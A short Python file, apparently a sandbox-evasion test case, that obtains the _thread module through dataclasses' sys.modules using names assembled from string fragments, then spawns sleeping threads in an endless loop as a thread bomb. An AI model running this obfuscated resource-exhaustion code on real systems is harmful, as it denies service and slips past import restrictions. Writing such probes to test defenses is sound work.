# Tries: the always-loaded _thread module (via sys.modules, names built at run time) as a thread bomb.
# ruff: noqa
import dataclasses
import time
from operator import attrgetter

thread = attrgetter("sy" + "s.mod" + "ules")(dataclasses)["_" + "thread"]
while True:
    attrgetter("start_new_" + "thread")(thread)(time.sleep, (60,))
